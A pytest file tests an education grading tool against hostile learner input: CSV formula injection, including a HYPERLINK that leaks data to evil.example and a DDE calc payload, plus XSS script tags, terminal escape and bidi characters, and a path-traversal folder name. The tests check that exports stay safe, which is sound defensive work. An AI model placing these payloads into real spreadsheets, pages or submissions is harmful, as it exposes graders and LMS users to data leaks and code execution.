"""A class that attacks the grader with what learners control: file names, ids, answers,
names in the roster (an LMS lets learners edit them), and the text their code raises.

Every CSV cell must stay text in a spreadsheet, nothing printed may carry a control or bidi
character, and the feedback (Markdown and the LMS's HTML pages) must show no markup."""

import csv
import json
import os
import unicodedata
import zipfile
from pathlib import Path

import pytest

from pruneedu import quiz
from pruneedu.cli import main
from pruneedu.grading import learner_texts
from pruneedu.grading.safe_text import md
from pruneedu.markdown_html import to_html

FIXTURE = Path(__file__).parent / "fixtures" / "class"
MATERIAL = ["--quizzes", str(FIXTURE / "quizzes"), "--exercises", str(FIXTURE / "exercises")]
BANK = quiz.load_bank(FIXTURE / "quizzes" / "demo-quiz.yaml")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ESCAPES = "\x1b[2J\x1b[1A\r\u202e\u2066\x07"
SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
CODE = f'''
def zero_fraction(weights):
    raise ValueError({(FORMULA + ESCAPES + SCRIPT)!r})
'''


def responses(learner: str, **answers) -> str:
    data = quiz.new_responses(BANK.id, quiz.content_hash(BANK), learner, "graded")
    for qid, value in answers.items():
        quiz.record_answer(data, qid, value)
    return json.dumps(data)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    subs = root / "subs"
    subs.mkdir()
    # Canvas keeps the learner's own file name after its prefix: anything but / \ : * ? " < > |
    canvas = [
        ("lovelaceada_1001_51_" + FORMULA.replace("/", "").replace('"', "") + ".responses.json",
         responses("ada", **{"q-text": "=lotery ticket", "q-single": FORMULA})),
        (f"byronben_1002_52_{ESCAPES}note.txt", "hello"),
        ("byronben_1002_53_demo-quiz.responses.json",
         responses("ben", **{"q-text": SCRIPT + " [x](javascript:alert(1))"})),
        ("kingcal_1003_54_zero-fraction.py", CODE),
    ]
    for name, text in canvas:
        (subs / name).write_text(text, encoding="utf-8")
    unknown = json.loads(responses("cal"))
    unknown["quiz_id"] = FORMULA + ESCAPES
    (subs / "x.demo-quiz.responses.json").write_text(json.dumps(unknown), encoding="utf-8")
    bad_id = json.loads(responses("cal"))
    bad_id["learner_id"] = "=1+1" + ESCAPES
    (subs / "y.demo-quiz.responses.json").write_text(json.dumps(bad_id), encoding="utf-8")
    roster = root / "roster.csv"
    with open(roster, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["learner_id", "name", "section", "canvas_user_id", "moodle_username"])
        writer.writerow(["ada", FORMULA, "@SUM(1)", "1001", "ada"])
        writer.writerow(["ben", "\u202eevil" + SCRIPT, "-1+2" + ESCAPES, "1002", "=ben"])
        writer.writerow(["cal", "+cmd|' /C calc'!A0", "\tA", "1003", "cal"])
        writer.writerow(["dan", "    Points Possible", "A", "1004", "dan"])
    (root / "assignments.csv").write_text(
        f"item_id,lms_name\ndemo-quiz,{FORMULA.replace(',', ' ')}\nzero-fraction,Lab\n",
        encoding="utf-8")
    common = [str(subs), *MATERIAL, "--roster", str(roster), "--assignments",
              str(root / "assignments.csv"), "--no-progress"]
    codes = {}
    for command, out, extra in [("grade", "plain", []), ("grade", "canvas", ["--format", "canvas"]),
                                ("grade", "moodle", ["--format", "moodle", "--moodle-id",
                                                     "username"]),
                                ("feedback", "feedback", ["--format", "canvas",
                                                          "--reveal-answers"]),
                                ("stats", "stats", [])]:
        codes[out] = main([command, *common, "--out", str(root / out), *extra])
    return {"root": root, "codes": codes}


def all_csv_cells(folder: Path):
    for path in sorted(folder.rglob("*.csv")):
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    yield path.name, cell


def test_the_commands_finish_and_report(attacked):
    assert attacked["codes"] == {"plain": 1, "canvas": 1, "moodle": 1, "feedback": 1,
                                 "stats": 1}


@pytest.mark.parametrize("out", ["plain", "canvas", "moodle", "stats"])
def test_no_csv_cell_is_a_formula_or_holds_control_characters(attacked, out):
    cells = list(all_csv_cells(attacked["root"] / out))
    assert cells
    for name, cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), (name, cell)
        assert not any(unicodedata.category(ch) in ("Cc", "Cf") for ch in cell), (name, cell)
    texts = " ".join(cell for _, cell in cells)
    if out == "plain":  # the attacks were there, neutralised, not dropped
        assert "'=HYPERLINK" in texts and "'+cmd" in texts
        assert "'=lotery ticket" in texts  # a near miss in the review queue


def test_nothing_printed_carries_a_control_or_bidi_character(attacked, capfd):
    root = attacked["root"]
    main(["grade", str(root / "subs"), *MATERIAL, "--roster", str(root / "roster.csv"),
          "--out", str(root / "again"), "--no-progress"])
    printed = capfd.readouterr()
    for text in (printed.out, printed.err):
        assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")
                       for ch in text.replace("\n", ""))
    assert "note.txt" in printed.out  # the hostile file name is reported, made harmless


def test_feedback_shows_no_markup_in_markdown_or_html(attacked):
    folder = attacked["root"] / "feedback"
    pages = [to_html(p.read_text()) for p in folder.glob("*.md")]
    for archive in folder.glob("canvas/*.zip"):
        with zipfile.ZipFile(archive) as opened:
            pages += [opened.read(name).decode() for name in opened.namelist()]
    assert len(pages) >= 5
    for page in pages:
        lowered = page.lower()
        assert "<script" not in lowered and "<img" not in lowered
        assert "<a " not in lowered
        assert not any(unicodedata.category(ch) in ("Cc", "Cf") for ch in page.replace("\n", ""))
    cal = (folder / "cal.md").read_text()
    # The code's error is not quoted at all (learner_texts), only the grader's fixed text;
    # ben's written quiz answer above still carries the markup, escaped.
    assert "HYPERLINK" not in cal and "script" not in cal.lower()
    assert md(learner_texts.RAISED) in cal


def test_json_stays_valid_and_keeps_what_happened(attacked):
    data = json.loads((attacked["root"] / "plain" / "gradebook.json").read_text())
    assert data["learners"]["ada"]["name"] == FORMULA  # data, not a cell: kept as it was
    assert os.path.islink(attacked["root"] / "plain")


def test_an_lms_id_that_would_need_escaping_is_left_out_not_mangled(attacked):
    # "'=ben" would match no Moodle user, and Moodle stops the whole import at such a row.
    rows = list(csv.reader((attacked["root"] / "moodle" / "gradebook.csv").open()))
    assert [row[0] for row in rows[1:]] == ["ada", "cal", "dan"]
    data = json.loads((attacked["root"] / "moodle" / "gradebook.json").read_text())
    assert data["not_in_lms_file"] == ["ben"]


def test_a_moodle_name_that_could_climb_out_of_a_folder_gets_no_page_in_the_zip(tmp_path):
    subs = tmp_path / "subs"
    for folder, learner in [("x\\..\\..\\evil_77_assignsubmission_file_", "eve"),
                            ("Ada Lovelace_78_assignsubmission_file_", "ada")]:
        (subs / folder).mkdir(parents=True)
        (subs / folder / "demo-quiz.responses.json").write_text(responses(learner))
    assert main(["feedback", str(subs), *MATERIAL, "--out", str(tmp_path / "fb"),
                 "--format", "moodle", "--no-progress"]) == 0
    with zipfile.ZipFile(tmp_path / "fb" / "moodle" / "demo-quiz.zip") as archive:
        assert archive.namelist() == ["Ada Lovelace_78_assignfeedback_file_feedback-demo-quiz.html"]
    assert (tmp_path / "fb" / "eve.md").exists()  # still gets the Markdown


def test_a_learner_named_points_possible_cannot_set_canvas_points(attacked):
    # Canvas reads every row whose first cell contains "Points Possible" as the points row.
    rows = list(csv.reader((attacked["root"] / "canvas" / "gradebook.csv").open()))
    assert [row[0] for row in rows if "Points Possible" in row[0]] == ["Points Possible"]
    assert ["dan", "1004"] in [row[:2] for row in rows]


def test_a_lone_surrogate_in_an_answer_does_not_lose_the_class(tmp_path):
    # JSON's "\udcff" escape decodes to a string UTF-8 cannot encode.
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "ada.demo-quiz.responses.json").write_text(
        responses("ada", **{"q-text": "lotery ticket" + chr(0xDCFF)}))
    assert main(["grade", str(subs), *MATERIAL, "--out", str(tmp_path / "g"),
                 "--no-progress"]) == 0
    data = json.loads((tmp_path / "g" / "gradebook.json").read_text(encoding="utf-8"))
    assert data["review"][0]["answer"].startswith("lotery ticket")
    (tmp_path / "fb").mkdir()
    assert main(["feedback", str(subs), *MATERIAL, "--out", str(tmp_path / "fb"),
                 "--no-progress"]) == 0
